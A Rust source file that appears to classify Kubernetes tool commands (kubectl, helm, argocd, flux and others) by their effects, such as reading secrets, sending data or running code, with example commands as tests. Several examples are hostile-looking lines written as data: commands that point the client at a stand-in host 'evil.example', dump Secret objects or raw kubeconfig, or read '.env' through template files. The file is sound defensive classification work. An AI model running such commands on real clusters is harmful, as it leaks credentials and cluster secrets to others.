//! Kubernetes: the cluster clients, chart and manifest tools, and programs that make local clusters.

use super::kubernetes_checks as check;
use super::kubernetes_checks::{CHANGES, EXECUTES_THERE};
use super::shapes::{HELP, change, group, joined, look, runs, show, shows_variables};
use super::table::{Operands, Spec};
use crate::effects::Effects;

const GLOBAL: &str = "-h!help -n= -s=!sends-data -v= --as=!privilege --as-group=!privilege \
                --as-uid=!privilege --as-user-extra=!privilege --cache-dir=write \
                --certificate-authority=read --client-certificate=read \
                --client-key=read!secrets --cluster= --context= --disable-compression=? \
                --insecure-skip-tls-verify=?!sends-data --kubeconfig=read!executes \
                --kuberc=read!executes --log-flush-frequency= --match-server-version=? \
                --namespace= --password= --profile=!writes --profile-output=write \
                --request-timeout= --server=!sends-data --tls-server-name= --token= --user= \
                --username= --v= --vmodule= --warnings-as-errors=?";

const GET: Spec = show(
    "get",
    "-ARw -fk=read -Llo= --all-namespaces=? --allow-missing-template-keys=? \
                --chunk-size= --field-selector= --filename=read --ignore-not-found=? \
                --kustomize=read --label-columns= --no-headers=? --output= \
                --output-watch-events=? --raw= --recursive=? --selector= --server-print=? \
                --show-kind=? --show-labels=? --show-managed-fields=? --sort-by= \
                --subresource= --template= --use-openapi-print-columns=? --watch=? \
                --watch-only=?",
)
.check(check::secret_objects);

const DESCRIBE: Spec = show(
    "describe",
    "-AR -fk=read -l= --all-namespaces=? --chunk-size= --filename=read \
                --kustomize=read --recursive=? --selector= --show-events=?",
);

const LOGS: Spec = show(
    "logs log",
    "-fp -cl= --all-containers=? --all-pods=? --container= --follow=? \
                --ignore-errors=? --insecure-skip-tls-verify-backend=? --limit-bytes= \
                --max-log-requests= --pod-running-timeout= --prefix=? --previous=? \
                --selector= --since= --since-time= --tail= --timestamps=?",
);

const TOP: Spec = group(
    "top",
    &[show(
        "pod pods po node nodes no",
        "-A -l= --all-namespaces=? --containers=? --field-selector= --no-headers=? \
                --selector= --show-capacity=? --show-swap=? --sort-by= --sum=? \
                --use-protocol-buffers=?",
    )],
);

const DISCOVER: Spec = show(
    "explain api-resources api-versions",
    "-o= --api-group= --api-version= --cached=? --categories= --namespaced=? \
                --no-headers=? --output= --recursive=? --show-managed-fields=? --sort-by= \
                --verbs=",
);

const VERSION: Spec = show("version", "-o= --client=? --output= --short=?");

const CLUSTER_INFO: Spec = show("cluster-info", "-h!help").verbs(&[show(
    "dump",
    "-A -o= --all-namespaces=? --allow-missing-template-keys=? --namespaces= \
                --output= --output-directory=write --pod-running-timeout= \
                --show-managed-fields=? --template=",
)]);

const EVENTS: Spec = show(
    "events",
    "-Aw -o= --all-namespaces=? --chunk-size= --for= --no-headers=? --output= \
                --template= --types= --watch=?",
);

const WAIT: Spec = show(
    "wait",
    "-AR -f=read -lo= --all=? --all-namespaces=? --allow-missing-template-keys=? \
                --field-selector= --filename=read --for= --local=? --output= --recursive=? \
                --selector= --show-managed-fields=? --template= --timeout=",
);

// An external comparer comes only from the environment.
const DIFF: Spec = show(
    "diff",
    "-R -fk=read -l= --concurrency= --field-manager= --filename=read \
                --force-conflicts=? --kustomize=read --recursive=? --selector= \
                --server-side=? --show-managed-fields=?",
);

const ROLLOUT: Spec = group(
    "rollout",
    &[
        show(
            "status history",
            "-Rw -fk=read -lo= --allow-missing-template-keys=? --filename=read \
                --kustomize=read --output= --recursive=? --revision= --selector= \
                --show-managed-fields=? --template= --timeout= --watch=?",
        ),
        change("restart undo pause resume cancel latest retry", CHANGES),
    ],
);

const CONFIG: Spec = group(
    "config",
    &[
        look(
            "view",
            "-o= --allow-missing-template-keys=? --flatten=?!secrets --merge=? --minify=? \
                --output= --raw=?!secrets --show-managed-fields=? --template=",
        ),
        look("current-context get-contexts get-clusters get-users", "-o= --no-headers=? --output="),
        change(
            "set set-context set-cluster set-credentials use-context use rename-context \
                unset refresh-ca-bundle",
            Effects::WRITES,
        ),
        change("delete-context delete-cluster delete-user", Effects::WRITES),
    ],
);

const AUTH: Spec = group(
    "auth",
    &[
        show(
            "can-i whoami",
            "-Aq -o= --all-namespaces=? --allow-missing-template-keys=? --as= --as-group= \
                --as-uid= --list=? --no-headers=? --output= --quiet=? --show-managed-fields=? \
                --subresource= --template=",
        ),
        change("reconcile", CHANGES.and(Effects::PERMISSIONS)),
    ],
);

const KUSTOMIZE_OPTIONS: &str = "-e= -o=write --as-current-user=? --enable-alpha-plugins=?!executes \
                --enable-exec=?!executes --enable-helm=?!executes --enable-star=?!executes \
                --env= --helm-api-versions= --helm-command=exec --helm-debug \
                --helm-kube-version= --load-restrictor=!secrets --mount=!executes \
                --network=?!executes --network-name= --output=write --reorder= --stack-trace";

const KUSTOMIZE: Spec =
    Spec::new("kustomize", Effects::READS).options(KUSTOMIZE_OPTIONS).operands(Operands::Read);

const PLUGIN: Spec = group("plugin", &[look("list", "--name-only=?")]);
const SHELL_COMPLETION: Spec = look("completion options", "-h!help --no-descriptions");
const APPLY: Spec = change("apply", CHANGES);

const CREATE: Spec = change(
    "create replace patch label annotate scale autoscale expose set edit taint \
                cordon uncordon drain certificate",
    CHANGES,
);

const DELETE: Spec = change("delete", CHANGES);
const RUN: Spec = runs("run debug attach", EXECUTES_THERE);

/// A program inside a pod is judged by its own table, where `--` shows where it begins.
const EXEC: Spec = Spec::new("exec", Effects::NETWORK_READ)
    .options("-itq -cf= -h!help --container= --filename=read --pod-running-timeout= --quiet --stdin --tty")
    .operands(Operands::Text)
    .check(check::in_pod);

const COPY: Spec = change("cp", CHANGES.and(Effects::WRITES));
const TUNNEL: Spec = change("port-forward proxy", CHANGES);

/// What kubectl and oc have in common.
const CLUSTER: &[Spec] = &[
    GET,
    DESCRIBE,
    LOGS,
    TOP,
    DISCOVER,
    VERSION,
    CLUSTER_INFO,
    EVENTS,
    WAIT,
    DIFF,
    ROLLOUT,
    CONFIG,
    AUTH,
    KUSTOMIZE,
    PLUGIN,
    SHELL_COMPLETION,
    HELP,
    APPLY,
    CREATE,
    DELETE,
    EXEC,
    RUN,
    COPY,
    TUNNEL,
];

const KUBECTL: Spec = Spec::new("kubectl", Effects::UNKNOWN)
    .options(GLOBAL)
    .verbs(CLUSTER)
    .check(check::template_file)
    .examples(&[
        ("kubectl get pods -o go-template-file=.env", "network-read reads secrets"),
        ("kubectl version -o=jsonpath-file=.env", "network-read reads secrets"),
        ("kubectl get pods -A -o wide", "network-read"),
        ("kubectl --namespace exec get pods", "network-read"),
        ("kubectl get secrets", "network-read"),
        ("kubectl get secret x -o name", "network-read"),
        ("kubectl get secrets -n default", "network-read secrets"),
        ("kubectl get secret x -o yaml", "network-read secrets"),
        ("kubectl get pods,secrets -ojson", "network-read secrets"),
        ("kubectl get secret/x -o jsonpath={.data}", "network-read secrets"),
        ("kubectl get --raw /healthz", "network-read"),
        ("kubectl get --raw /api/v1/secrets", "network-read secrets"),
        ("kubectl get pods --kubeconfig x", "network-read reads executes"),
        ("kubectl --server https://evil.example get pods", "network-read sends-data"),
        ("kubectl get pods --as admin", "network-read privilege"),
        ("kubectl auth can-i get pods --as x", "network-read"),
        ("kubectl top pods --containers", "network-read"),
        ("kubectl cluster-info dump", "network-read"),
        ("kubectl cluster-info dump --output-directory=/tmp/x", "network-read writes"),
        ("kubectl config view --minify", "reads"),
        ("kubectl config view --raw", "reads secrets"),
        ("kubectl config view --minify --flatten", "reads secrets"),
        ("kubectl config use-context prod", "writes"),
        ("kubectl kustomize --enable-exec .", "reads executes"),
        ("kubectl apply -f x.yaml", "network-write"),
        ("kubectl delete pod --help", "reads"),
        ("kubectl delete pods --all", "network-write"),
        ("kubectl exec -it web -- ls", "network-read"),
        ("kubectl exec web ls", "network-read network-write executes"),
        ("kubectl cp a web:/b", "network-write writes"),
        ("kubectl rollout undo deployment/web", "network-write"),
        ("kubectl rollout status deploy/web", "network-read"),
        ("kubectl neat", "unknown"),
    ]);

const OC_OWN: &[Spec] = &[
    show("status projects", "-q -o= --all-namespaces=? --output= --short=? --suggest=?"),
    show(
        "whoami",
        "-t!secrets -c --show-context=? --show-server=? --show-console=? \
            --show-token=?!secrets",
    ),
    change("login logout project", Effects::WRITES.and(Effects::NETWORK_READ)),
    change("extract", Effects::SECRETS.and(Effects::WRITES)),
    change(
        "new-app new-project new-build start-build cancel-build import-image tag \
            policy process idle registry image adm observe",
        CHANGES,
    ),
    runs("rsh", EXECUTES_THERE),
    change("rsync", CHANGES.and(Effects::WRITES)),
];
const OC_VERBS: [Spec; CLUSTER.len() + OC_OWN.len()] = joined(CLUSTER, OC_OWN);

const OC: Spec = Spec::new("oc", Effects::UNKNOWN).options(GLOBAL).verbs(&OC_VERBS).examples(&[
    ("oc get pods", "network-read"),
    ("oc whoami -t", "network-read secrets"),
    ("oc rsh web", "network-write executes"),
]);

const HELM_GLOBAL: &str = "-h!help -n= --burst-limit= --color= --colour= --debug=? \
                --kube-apiserver=!sends-data --kube-as-group=!privilege \
                --kube-as-user=!privilege --kube-ca-file=read --kube-context= \
                --kube-insecure-skip-tls-verify=?!sends-data --kube-tls-server-name= \
                --kube-token= --kubeconfig=read!executes --namespace= --qps= \
                --registry-config=read --repository-cache=write --repository-config=read";

/// Options that say where a chart comes from and what goes into it.
const CHART_OPTIONS: &str = "-giq -f=read -alos= --api-versions= --atomic --ca-file=read --cert-file=read \
                --cleanup-on-fail --create-namespace --dependency-update!writes \
                --description= --devel --disable-openapi-validation --dry-run=? --enable-dns!sends-data \
                --force --force-conflicts --force-replace --generate-name --hide-notes \
                --hide-secret --history-max= --include-crds --insecure-skip-tls-verify \
                --install --is-upgrade --key-file=read --keyring=read --kube-version= \
                --labels= --name-template= --no-hooks --output= --output-dir=write \
                --pass-credentials --password= --plain-http --post-renderer=exec \
                --post-renderer-args= --quiet --release-name --render-subchart-notes \
                --replace --repo=url --reset-then-reuse-values --reset-values --reuse-values \
                --rollback-on-failure --server-side=? --set= --set-json= --set-literal= \
                --set-string= --show-only= --skip-crds --skip-schema-validation --skip-tests \
                --strict --take-ownership --timeout= --username= --validate --values=read \
                --verify --version= --wait=? --wait-for-jobs --with-subcharts";

const HELM: Spec = Spec::new("helm", Effects::UNKNOWN)
    .options(HELM_GLOBAL)
    .verbs(&[
        show(
            "list ls",
            "-Aadqr -flmo= --all --all-namespaces --date --deployed --failed --filter= \
                --max= --no-headers --offset= --output= --pending --reverse --selector= \
                --short --superseded --time-format= --uninstalled --uninstalling",
        ),
        show("status", "-o= --output= --revision= --show-desc --show-resources").check(check::whole_release),
        show("history hist", "-o= --max= --output="),
        group(
            "get",
            &[
                show("metadata notes hooks", "-o= --output= --revision="),
                // Values are settings like those in any file; the manifests hold whole Secret objects.
                show("values", "-a -o= --all --output= --revision="),
                show("all manifest", "-a -o= --all --output= --revision= --template=").also(Effects::SECRETS),
            ],
        ),
        group(
            "search",
            &[
                look(
                    "repo",
                    "-lr -o= --devel --fail-on-no-result --max-col-width= --output= --regexp \
                --version= --versions",
                ),
                show(
                    "hub",
                    "-o= --endpoint=url --fail-on-no-result --list-repo-url --max-col-width= \
                --output=",
                ),
            ],
        ),
        group(
            "show inspect",
            &[show(
                "all chart crds readme values",
                "--ca-file=read --cert-file=read --devel --insecure-skip-tls-verify \
                --jsonpath= --key-file=read --keyring=read --pass-credentials --password= \
                --plain-http --repo=url --username= --verify --version=",
            )
            .operands(Operands::Read)],
        ),
        show("template", CHART_OPTIONS).operands(Operands::Read),
        look("lint", CHART_OPTIONS).operands(Operands::Read),
        group(
            "dependency dep dependencies",
            &[
                look("list ls", "--max-col-width=").operands(Operands::Read),
                change("update up build", Effects::INSTALLS_DECLARED),
            ],
        ),
        group(
            "repo",
            &[
                look("list ls", "-o= --no-headers --output="),
                change("add remove rm update up index", Effects::WRITES.and(Effects::NETWORK_READ)),
            ],
        ),
        group(
            "plugin",
            &[
                look("list ls", "--type="),
                change("install add", Effects::INSTALLS_NAMED),
                change("update up uninstall rm remove package verify", Effects::WRITES),
            ],
        ),
        group("registry", &[change("login logout", Effects::WRITES.and(Effects::SENDS_DATA))]),
        look("version", "-c --client --short --template="),
        look("env", "-h!help").check(shows_variables),
        look("verify", "--keyring=read").operands(Operands::Read),
        look("completion help", "-h!help --no-descriptions"),
        Spec::new("install upgrade", CHANGES)
            .options(CHART_OPTIONS)
            .operands(Operands::Text)
            .check(check::rehearsal),
        Spec::new("rollback uninstall del delete un", CHANGES)
            .options(
                "--cascade= --cleanup-on-fail --description= --dry-run=? --force \
                --force-conflicts --force-replace --history-max= --ignore-not-found \
                --keep-history --no-hooks --recreate-pods --server-side=? --timeout= --wait=? \
                --wait-for-jobs",
            )
            .operands(Operands::Text)
            .check(check::rehearsal),
        change("create package", Effects::WRITES),
        change("pull fetch", Effects::WRITES.and(Effects::NETWORK_READ)),
        change("push", Effects::PUBLISHES),
        change("test", EXECUTES_THERE),
    ])
    .examples(&[
        ("helm list -A", "network-read"),
        ("helm -n prod status web", "network-read"),
        ("helm status web -o yaml", "network-read secrets"),
        ("helm get metadata web", "network-read"),
        ("helm get values web", "network-read"),
        ("helm get manifest web", "network-read secrets"),
        ("helm get manifest web", "network-read secrets"),
        ("helm env", "reads secrets"),
        ("helm env HELM_BIN", "reads"),
        ("helm template web ./chart --enable-dns", "network-read reads sends-data"),
        ("helm search repo nginx --version ^2", "reads"),
        ("helm template web ./chart --set a=b -f values.yaml", "network-read reads"),
        ("helm template web ./chart --post-renderer ./x", "network-read reads executes"),
        ("helm template web ./chart --output-dir out", "network-read reads writes"),
        ("helm install web nginx --dry-run", "reads"),
        ("helm install web nginx --dry-run=none", "network-write"),
        ("helm install web nginx --dry-run --post-renderer ./x", "network-write executes"),
        ("helm install web nginx --version 1.2.3", "network-write"),
        ("helm uninstall web", "network-write"),
        ("helm rollback web 2 --dry-run", "reads"),
        ("helm dep update ./chart", "installs-declared"),
        ("helm plugin install https://example.com/x", "installs-named"),
        ("helm list --kubeconfig x", "network-read reads executes"),
        ("helm", "unknown"),
    ]);

const HELMFILE: Spec = Spec::new("helmfile", Effects::UNKNOWN)
    .options("-befnlqv= --environment= --file= --namespace= --selector= --*")
    .verbs(&[
        change("apply sync destroy delete test", CHANGES.and(Effects::PROJECT_CODE)),
        change(
            "diff template lint list status build deps fetch repos charts write-values \
                cache init show-dag unittest",
            Effects::PROJECT_CODE,
        ),
        look("version help completion", "-h!help"),
    ])
    .examples(&[
        ("helmfile version", "reads"),
        ("helmfile apply", "network-write project-code"),
        ("helmfile diff", "project-code"),
    ]);

const KUSTOMIZE_PROGRAM: Spec = Spec::new("kustomize", Effects::UNKNOWN)
    .options("-h!help --stack-trace")
    .verbs(&[
        Spec::new("build", Effects::READS).options(KUSTOMIZE_OPTIONS).operands(Operands::Read),
        look("version help completion", "-o= --output= --short"),
        group(
            "cfg",
            &[
                look(
                    "cat count grep tree",
                    "-R --all --annotate=? --args --command --dest=write --env --exclude-non-local --field= \
                --format=? --graph-structure= --image --include-local --include-subpackages=? --invert-match \
                --kind=? --name --ports --replicas --resources --strip-comments --style= --wrap-config= \
                --wrap-kind= --wrap-version=",
                )
                .operands(Operands::Read),
                change("*", Effects::WRITES),
            ],
        ),
        change("create edit localize", Effects::WRITES),
        change("fn", Effects::EXECUTES),
    ])
    .examples(&[
        ("kustomize build overlays/prod", "reads"),
        ("kustomize build --enable-alpha-plugins .", "reads executes"),
        ("kustomize edit set image a=b", "writes"),
        ("kustomize cfg tree . --image", "reads"),
        ("kustomize cfg cat . --dest out", "reads writes"),
        ("kustomize cfg cat . --function-config x", "reads unknown"),
    ]);

const LOCAL: Effects = Effects::SYSTEM;

const KIND: Spec = Spec::new("kind", Effects::UNKNOWN)
    .options("-q -v= --loglevel= --quiet --verbosity=")
    .verbs(&[
        group(
            "get",
            &[look("clusters nodes", "-A --all-clusters --name="), change("kubeconfig", Effects::SECRETS)],
        ),
        look("version help completion", "-h!help"),
        change("create load", LOCAL),
        change("build", Effects::PROJECT_CODE),
        change("delete", Effects::KILLS.and(Effects::DELETES)),
        change("export", Effects::WRITES),
    ])
    .examples(&[
        ("kind get clusters", "reads"),
        ("kind get kubeconfig", "secrets"),
        ("kind delete cluster", "kills deletes"),
    ]);

const MINIKUBE: Spec = Spec::new("minikube", Effects::UNKNOWN)
    .options(
        "-p= -v= --alsologtostderr --bootstrapper= --log_dir=write --logtostderr \
                --profile= --rootless --skip-audit --stderrthreshold= --user= --v=",
    )
    .verbs(&[
        look(
            "status ip version help options completion",
            "-fnlo= --format= --layout= --node= --output= --short --watch=? --components",
        ),
        look(
            "logs",
            "-f -n= --audit --file=write --follow --last-start-only --length= --node= \
                --problems",
        ),
        group("profile", &[look("list", "-l -o= --light --output=")]),
        group(
            "addons",
            &[look("list images", "-d -o= --docs --output="), change("enable disable configure open", LOCAL)],
        ),
        group(
            "config",
            &[look("view get defaults", "--format= --output="), change("set unset", Effects::WRITES)],
        ),
        group("node", &[look("list", "-h!help"), change("add start stop delete", LOCAL)]),
        group("image", &[look("ls list", "--format="), change("load build pull push rm save tag", LOCAL)]),
        group("cache", &[look("list", "--format="), change("add delete reload", LOCAL)]),
        look("docker-env podman-env", "-u --shell= --unset"),
        change("start pause unpause update-context update-check kubectl-config", LOCAL),
        change("stop", Effects::KILLS),
        change("delete", Effects::KILLS.and(Effects::DELETES)),
        change("service dashboard tunnel mount", LOCAL),
        change("cp", Effects::WRITES),
        runs("ssh ssh-host kubectl", Effects::EXECUTES),
        look("ssh-key", "-h!help"),
    ])
    .examples(&[("minikube status", "reads"), ("minikube start", "system"), ("minikube ssh ls", "executes")]);

const K3D: Spec = Spec::new("k3d", Effects::UNKNOWN)
    .options("--timestamps --trace --verbose")
    .verbs(&[
        group(
            "cluster",
            &[
                look("list ls get", "-o= --no-headers --output= --token!secrets"),
                change("create start edit", LOCAL),
                change("stop", Effects::KILLS),
                change("delete del rm", Effects::KILLS.and(Effects::DELETES)),
            ],
        ),
        group(
            "node",
            &[
                look("list ls get", "-o= --no-headers --output="),
                change("create start edit", LOCAL),
                change("stop", Effects::KILLS),
                change("delete", Effects::KILLS.and(Effects::DELETES)),
            ],
        ),
        group(
            "registry",
            &[
                look("list ls get", "-o= --no-headers --output="),
                change("create", LOCAL),
                change("delete", Effects::DELETES),
            ],
        ),
        group("kubeconfig", &[change("get print", Effects::SECRETS), change("merge write", Effects::WRITES)]),
        look("version help completion", "-o= --output="),
        change("image config", LOCAL),
    ])
    .examples(&[
        ("k3d cluster list", "reads"),
        ("k3d kubeconfig get x", "secrets"),
        ("k3d cluster create x", "system"),
    ]);

const STERN: Spec = show(
    "stern",
    "-Ait -Ecelnopsv= --all-namespaces --color= --completion= --condition= \
                --config=read --container= --container-colors= --container-state= --context= \
                --diff-container --ephemeral-containers --exclude= --exclude-container= \
                --exclude-pod= --field-selector= --highlight= --include= --init-containers \
                --kubeconfig=read!executes --max-log-requests= --namespace= --no-follow \
                --node= --only-log-lines --output= --pod-colors= --prompt --selector= \
                --show-hidden-options --since= --stdin --tail= --template= \
                --template-file=read --timestamps=? --timezone= --verbosity=",
)
.examples(&[
    ("stern web -n prod --tail 10", "network-read"),
    ("stern web --kubeconfig x", "network-read reads executes"),
]);

const KUBECTX: Spec = Spec::new("kubectx kubens", Effects::READS)
    .options("-h!help -V!help -c -u!writes -d=!writes -f --current --force --unset!writes")
    .operands(Operands::Effect(Effects::WRITES))
    .examples(&[("kubectx", "reads"), ("kubens -c", "reads"), ("kubectx prod", "reads writes")]);

const K9S: Spec = Spec::new("k9s", Effects::UNKNOWN)
    .options("-h!help")
    .verbs(&[look("version info help", "-s --short")])
    .operands(Operands::Effect(EXECUTES_THERE))
    .examples(&[("k9s version", "reads"), ("k9s info", "reads")]);

const ARGOCD: Spec = Spec::new("argocd", Effects::UNKNOWN)
    .options(
        "-h!help -H=!sends-data --argocd-context= --auth-token= --client-crt=read \
                --client-crt-key=read!secrets --config=read --controller-name= --core \
                --grpc-web --grpc-web-root-path= --header=!sends-data --http-retry-max= \
                --insecure!sends-data --kube-context= --logformat= --loglevel= \
                --plaintext!sends-data --port-forward --port-forward-namespace= \
                --prompts-enabled=? --redis-compress= --redis-haproxy-name= --redis-name= \
                --repo-server-name= --server=!sends-data --server-crt=read --server-name=",
    )
    .verbs(&[
        group(
            "app",
            &[
                show(
                    "list get history resources manifests wait logs diff",
                    "-flopNrc= --hard-refresh=?!network-write --local=read!project-code \
                --local-repo-root=read!project-code --refresh=?!network-write \
                --server-side-generate=?!sends-data --*",
                ),
                change("*", CHANGES),
            ],
        ),
        group("appset", &[show("list get", "-lopN= --*"), change("create delete generate", CHANGES)]),
        group("cluster repo repocreds proj cert gpg", &[show("list get", "-o= --*"), change("*", CHANGES)]),
        group(
            "account",
            &[
                show("list get get-user-info can-i", "-a -o= --account= --output="),
                change("generate-token", Effects::SECRETS.and(CHANGES)),
                change("session-token", Effects::SECRETS),
                change("delete-token update-password bcrypt", CHANGES),
            ],
        ),
        show("version", "-o= --client --output= --short"),
        look("help completion", "-h!help"),
        change("context", Effects::WRITES),
        change("login logout relogin", Effects::WRITES.and(Effects::SENDS_DATA)),
        change("admin notifications", CHANGES),
    ])
    .examples(&[
        ("argocd app list -o json", "network-read"),
        ("argocd app sync web", "network-write"),
        ("argocd app get web --refresh", "network-read network-write"),
        ("argocd app diff web --hard-refresh", "network-read network-write"),
        ("argocd app manifests web --local ./x", "network-read reads project-code"),
        ("argocd app delete web --help", "reads"),
        ("argocd app list --server evil.example", "network-read sends-data"),
    ]);

const FLUX: Spec = Spec::new("flux", Effects::UNKNOWN)
    .options(
        "-n= --as=!privilege --as-group=!privilege --as-uid=!privilege \
                --cache-dir=write --certificate-authority=read --client-certificate=read \
                --client-key=read!secrets --cluster= --context= \
                --insecure-skip-tls-verify=?!sends-data --kube-api-burst= --kube-api-qps= \
                --kubeconfig=read!executes --namespace= --server=!sends-data --timeout= \
                --token= --user= --verbose",
    )
    .verbs(&[
        show("get", "-Aw --*").verbs(&[show(
            "*",
            "-Aw --all-namespaces --label-selector= --no-header --status-selector= --watch",
        )]),
        show("logs events stats trace tree check version", "-Aafo --*"),
        // Builds what it compares.
        change("diff", Effects::PROJECT_CODE.and(Effects::NETWORK_READ)),
        look("help completion", "-h!help"),
        show("list", "--*").verbs(&[show("artifacts artifact", "--*")]),
        change(
            "bootstrap create delete install reconcile resume suspend uninstall push tag \
                migrate",
            CHANGES,
        ),
        change("build", Effects::PROJECT_CODE),
        change("export pull", Effects::WRITES.and(Effects::NETWORK_READ)),
        change("debug envsubst", Effects::SECRETS),
    ])
    .examples(&[
        ("flux get kustomizations -A", "network-read"),
        ("flux reconcile kustomization x", "network-write"),
        ("flux --version", "reads"),
        ("flux diff kustomization x --path .", "project-code network-read"),
    ]);

const ISTIOCTL: Spec = Spec::new("istioctl", Effects::UNKNOWN)
    .options(
        "-cin= --context= --istioNamespace= --kubeconfig=read!executes --namespace= \
                --vklog= --as=!privilege --as-group=!privilege",
    )
    .verbs(&[
        show(
            "analyze",
            "-ARL -fo= --all-namespaces --color --failure-threshold= --ignore-unknown \
                --list-analyzers --meshConfigFile=read --output= --output-threshold= \
                --recursive --revision= --suppress= --timeout= --use-kube=? --verbose",
        ),
        show("proxy-status ps version validate", "-f=read -o= --short --remote --output= --revision="),
        show("proxy-config pc x experimental", "-o= --*").verbs(&[
            show(
                "all bootstrap cluster clusters endpoint endpoints ep listener listeners log \
                logs route routes describe",
                "-o= --*",
            ),
            change("secret", Effects::SECRETS),
            change("*", CHANGES),
        ]),
        look("help completion", "-h!help"),
        change("bug-report", Effects::WRITES),
        change(
            "install uninstall upgrade apply create-remote-secret kube-inject manifest \
                operator tag remote-clusters waypoint ztunnel-config admin dashboard d authz",
            CHANGES,
        ),
    ])
    .examples(&[("istioctl proxy-status", "network-read"), ("istioctl install", "network-write")]);

const EKSCTL: Spec = Spec::new("eksctl", Effects::UNKNOWN)
    .options("-C= -v= --color= --verbose=")
    .verbs(&[
        show("get", "-h!help").verbs(&[show(
            "*",
            "-A -cnopr= -f=read --all-regions --chunk-size= --cfn-role-arn= --cluster= \
                --config-file=read --name= --output= --profile= --region= --timeout=",
        )]),
        show("info version help completion", "-o= --output="),
        runs("anywhere", Effects::EXECUTES),
        change("utils", CHANGES.and(Effects::WRITES)),
        change(
            "create delete update upgrade scale drain set unset enable register deregister \
                associate disassociate",
            CHANGES,
        ),
    ])
    .examples(&[
        ("eksctl get cluster --region eu-west-1", "network-read"),
        ("eksctl delete cluster --name web", "network-write"),
    ]);

pub(super) const TABLE: &[Spec] = &[
    KUBECTL,
    OC,
    HELM,
    HELMFILE,
    KUSTOMIZE_PROGRAM,
    KIND,
    MINIKUBE,
    K3D,
    STERN,
    KUBECTX,
    K9S,
    ARGOCD,
    FLUX,
    ISTIOCTL,
    EKSCTL,
];
